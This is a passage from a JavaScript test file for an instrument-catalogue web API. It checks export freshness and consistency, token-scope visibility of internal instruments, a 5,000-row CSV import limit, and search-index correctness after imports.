  assert.ok((await csvOf()).some((x) => x.name_zh === '导出缓存校验仪'));
  // A change through the API shows in the very next export.
  assert.equal((await call(opA, 'PATCH', `/api/v1/instruments/${id}`, { name_zh: '导出缓存改名仪' })).status, 200);
  j1 = await json();
  assert.equal(j1.items.find((i) => i.id === id)?.name_zh, '导出缓存改名仪');
  assert.equal(j1.count, j1.items.length);
  let rows = await csvOf();
  assert.ok(rows.some((x) => x.name_zh === '导出缓存改名仪') && !rows.some((x) => x.name_zh === '导出缓存校验仪'));
  // Internal now: gone from the public exports at once, still in the institution's own.
  assert.equal((await call(opA, 'PATCH', `/api/v1/instruments/${id}`, { share_mode: 'internal' })).status, 200);
  assert.ok(!(await json()).items.some((i) => i.id === id));
  assert.ok(!(await csvOf()).some((x) => x.name_zh === '导出缓存改名仪'));
  assert.ok((await csvOf(resA)).some((x) => x.name_zh === '导出缓存改名仪'));
  assert.equal((await call(opA, 'PATCH', `/api/v1/instruments/${id}`, { share_mode: 'external' })).status, 200);
  // The institution's names are in every row: a rename shows too.
  const org = (await get(anon, `/api/v1/orgs/${orgA.id}`)).body;
  const renamed = org.name_en + ' (renamed)';
  const pr = await call(admin, 'PATCH', `/api/v1/orgs/${orgA.id}`, { name_en: renamed });
  assert.equal(pr.status, 200, JSON.stringify(pr.body));
  assert.equal((await json()).items.find((i) => i.id === id)?.owner_org_name_en, renamed);
  assert.equal((await call(admin, 'PATCH', `/api/v1/orgs/${orgA.id}`, { name_en: org.name_en })).status, 200);
  assert.equal((await json()).items.find((i) => i.id === id)?.owner_org_name_en, org.name_en);
  // So are its zone's.
  const zone = (await get(anon, '/api/v1/zones')).body.items.find((z) => z.code === orgA.zone);
  assert.equal((await call(admin, 'PATCH', `/api/v1/zones/${zone.code}`, { name_en: zone.name_en + ' (renamed)' })).status, 200);
  assert.equal((await json()).items.find((i) => i.id === id)?.zone_name_en, zone.name_en + ' (renamed)');
  assert.equal((await call(admin, 'PATCH', `/api/v1/zones/${zone.code}`, { name_en: zone.name_en })).status, 200);
  assert.equal((await json()).items.find((i) => i.id === id)?.zone_name_en, zone.name_en);
  // A write by another process shows as well.
  sqlite(`UPDATE instruments SET name_zh = '旁路改名导出仪' WHERE id = ${id}`);
  assert.equal((await json()).items.find((i) => i.id === id)?.name_zh, '旁路改名导出仪');
  rows = await csvOf();
  assert.ok(rows.some((x) => x.name_zh === '旁路改名导出仪'));
  // A filter the search refuses is still a 400 naming it.
  const bad = await call(anon, 'GET', '/api/v1/instruments/export.csv?q=' + encodeURIComponent('a b c d e'));
  assert.equal(bad.status, 400);
  assert.equal(bad.body.error.field, 'q');
  // Many at once (one render, the rest wait for it or reuse it): all complete and agree.
  sqlite(`UPDATE instruments SET model = 'PAR-1' WHERE id = ${id}`);
  const many = await Promise.all(Array.from({ length: 12 }, (_, k) => (k % 2 ? anon.get('/api/v1/instruments/export.csv') : anon.get('/api/v1/instruments/export.json'))));
  assert.ok(many.every((x) => x.status === 200));
  const texts = new Set(many.filter((_, k) => k % 2).map((x) => x.text));
  assert.equal(texts.size, 1, 'every CSV answer is the same');
  assert.ok(many.filter((_, k) => !(k % 2)).every((x) => x.body.items.find((i) => i.id === id)?.model === 'PAR-1'));
});

test('tokens without the "all" scope read the catalogue as the public does', async () => {
  const r0 = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA, { share_mode: 'internal', name_zh: '令牌不可见仪', name_en: 'Token hidden unit' }));
  const hidden = r0.body.id;
  const tokenClient = async (scopes) => {
    const t = await call(resA, 'POST', '/api/v1/tokens', { name: 'catalogue ' + scopes.join(' '), scopes });
    assert.equal(t.status, 201, JSON.stringify(t.body));
    const c = new Client(srv.url);
    c.bearer = t.body.token;
    return c;
  };
  const narrow = [await tokenClient(['usage:write']), await tokenClient(['stats:read']), await tokenClient(['usage:write', 'stats:read'])];
  const all = await tokenClient(['all']);
  const day = (n) => new Date(Date.now() + n * 86400e3).toISOString().slice(0, 10);
  const week = `from=${day(1)}T00:00:00%2B08:00&to=${day(3)}T00:00:00%2B08:00`;
  const reads = [
    [`/api/v1/instruments/${hidden}`, 'the instrument'],
    [`/api/v1/instruments/${hidden}/availability?${week}`, 'its availability'],
    [`/api/v1/instruments/${hidden}/blocks`, 'its blocks'],
  ];
  for (const c of [anon, ...narrow]) {
    for (const [path, what] of reads) assert.equal((await get(c, path)).status, 404, `${what} with ${c.bearer ? 'a narrow token' : 'no credentials'}`);
    assert.equal((await get(c, `/api/v1/instruments/${made.id}`)).status, 200, 'a public instrument');
    assert.equal((await get(c, `/api/v1/instruments/${made.id}/availability?${week}`)).status, 200);
    assert.ok(!ids(await search(c, { org: String(orgA.id), limit: '500' })).includes(hidden), 'not in the list');
    assert.ok(ids(await search(c, { org: String(orgA.id), limit: '500' })).includes(made.id));
    const avail = await get(c, `/api/v1/availability/search?minutes=60&org=${orgA.id}&class=010401&limit=100`);
    assert.equal(avail.status, 200, JSON.stringify(avail.body));
    assert.ok(!avail.body.items.some((x) => x.instrument_id === hidden), 'not in the availability search');
    const exp = await c.get(`/api/v1/instruments/export.csv?org=${orgA.id}`);
    assert.equal(exp.status, 200);
    assert.ok(!exp.text.includes('令牌不可见仪'), 'not in the CSV export');
  }
  // The same user with an "all" token (or signed in) sees the institution's own.
  for (const c of [all, resA]) {
    for (const [path, what] of reads) assert.equal((await get(c, path)).status, 200, what);
    assert.ok(ids(await search(c, { org: String(orgA.id), limit: '500' })).includes(hidden));
    assert.ok((await c.get(`/api/v1/instruments/export.csv?org=${orgA.id}`)).text.includes('令牌不可见仪'));
  }
});

// Runs last: it adds 5,000 instruments of institution B.
test('import: at most 5,000 rows; a file at the limit goes through, one row more is refused', async () => {
  const HEAD5 = 'asset_no,name_zh,name_en,model,manufacturer,class_code,category_type,share_mode,run_status,original_value_fen,price.unit,price.internal_fen,price.zone_fen';
  const line = (k) => `CAP-${String(k).padStart(5, '0')},上限导入仪${k},Cap import unit ${k},M-${k},Maker,010501,general,external,normal,5000000,hour,5000,8000`;
  const file = (n, extra = []) => csv([HEAD5, ...Array.from({ length: n }, (_, k) => line(k)), ...extra]);
  const before = Number(sqlite(`SELECT count(*) FROM instruments WHERE owner_org_id = ${orgB.id}`));
  let r = await importCsv(opB, file(5001));
  assert.equal(r.status, 413, JSON.stringify(r.body));
  assert.equal(r.body.error.code, 'too_many_rows');
  assert.match(r.body.error.message, /5000/);
  // Also when the extra rows are only asset numbers (the probe's file): refused before any row is read.
  r = await importCsv(opB, csv(['asset_no', ...Array.from({ length: 80000 }, (_, k) => k.toString(16))]));
  assert.equal(r.status, 413);
  assert.equal(r.body.error.code, 'too_many_rows');
  // Blank lines are not rows (an empty line, or only commas as spreadsheets write them): 4,999
  // rows, two blank ones and the first row again are 5,000 rows, and the repeat is row 5000.
  r = await importCsv(opB, file(4999, ['', ',,,, ,', line(0)]));
  assert.equal(r.status, 400, 'a repeated asset number, found by the hash set');
  assert.deepEqual(r.body.rows.map((x) => `${x.row}:${x.field}`), ['5000:asset_no']);
  assert.equal(Number(sqlite(`SELECT count(*) FROM instruments WHERE owner_org_id = ${orgB.id}`)), before, 'nothing written');
  // The same asset number in two institutions is no repeat: an admin file naming both.
  r = await importCsv(admin, csv([`owner_org_code,${HEAD5}`, `${orgA.code},${line(1)}`, `${orgB.code},${line(1)}`, `${orgA.code},${line(1)}`]));
  assert.equal(r.status, 400);
  assert.deepEqual(r.body.rows.map((x) => `${x.row}:${x.field}`), ['3:asset_no']);
  // At the limit: every row goes in, and again unchanged (bench/catalogue_io.sh prints the times).
  r = await importCsv(opB, file(5000));
  assert.equal(r.status, 200, JSON.stringify(r.body).slice(0, 300));
  assert.deepEqual(r.body, { created: 5000, updated: 0, unchanged: 0 });
  r = await importCsv(opB, file(5000));
  assert.deepEqual(r.body, { created: 0, updated: 0, unchanged: 5000 });
  assert.equal(Number(sqlite(`SELECT count(*) FROM instruments WHERE owner_org_id = ${orgB.id}`)), before + 5000);
});

test('import keeps the search index exact: new, renamed and unchanged rows, with the index written once (migration 082)', async () => {
  const HEAD = 'asset_no,name_zh,name_en,model,manufacturer,class_code,category_type,share_mode,run_status,original_value_fen,price.unit,price.internal_fen,price.zone_fen';
  const line = (k, word) => `IDX-${k},${word}分光仪${k},${word} spectrometer ${k},IDX-M${k},Maker,010501,general,external,normal,5000000,hour,5000,8000`;
  const found = async (q) => (await search(anon, { q, limit: '100' })).items.map((i) => i.name_en);
  let r = await importCsv(opB, csv([HEAD, ...Array.from({ length: 30 }, (_, k) => line(k, 'Quokka'))]));
  assert.deepEqual(r.body, { created: 30, updated: 0, unchanged: 0 });
  assert.equal((await found('Quokka')).length, 30, 'every new row is found');
  // Rows 0-9 renamed, 10-29 unchanged, 30-34 new, in one file.
  r = await importCsv(opB, csv([HEAD, ...Array.from({ length: 35 }, (_, k) => line(k, k < 10 || k >= 30 ? 'Wombat' : 'Quokka'))]));
  assert.deepEqual(r.body, { created: 5, updated: 10, unchanged: 20 });
  const quokka = await found('Quokka'), wombat = await found('Wombat');
  assert.equal(quokka.length, 20, 'renamed rows are not found under their old names');
  assert.equal(wombat.length, 15);
  assert.ok(wombat.includes('Wombat spectrometer 3') && wombat.includes('Wombat spectrometer 33') && !quokka.includes('Quokka spectrometer 3'));
  assert.equal((await found('袋熊')).length, 0);
  // FTS5's own check of the index against the instruments table, and the flag cleared.
  assert.equal(spawnSync('sqlite3', [dbPath, "INSERT INTO instruments_fts (instruments_fts, rank) VALUES ('integrity-check', 1)"],
    { encoding: 'utf8' }).status, 0);
  assert.equal(sqlite('SELECT count(*) FROM search_deferred'), '0');
  // A file refused for one bad row leaves the index as it was.
  r = await importCsv(opB, csv([HEAD, line(0, 'Numbat'), line(1, 'Numbat').replace('010501', 'nope')]));
  assert.equal(r.status, 400);
  assert.equal((await found('Numbat')).length, 0);
  assert.equal((await found('Wombat')).length, 15);
  // A form edit after an import still moves the terms (the triggers are back on).
  const id = (await search(anon, { q: 'Wombat spectrometer 33', limit: '5' })).items[0].id;
  assert.equal((await call(opB, 'PATCH', `/api/v1/instruments/${id}`, { name_zh: 'Bilby分光仪33', name_en: 'Bilby spectrometer 33' })).status, 200);
  assert.deepEqual(await found('Bilby'), ['Bilby spectrometer 33']);
  assert.equal((await found('Wombat')).length, 14);
});
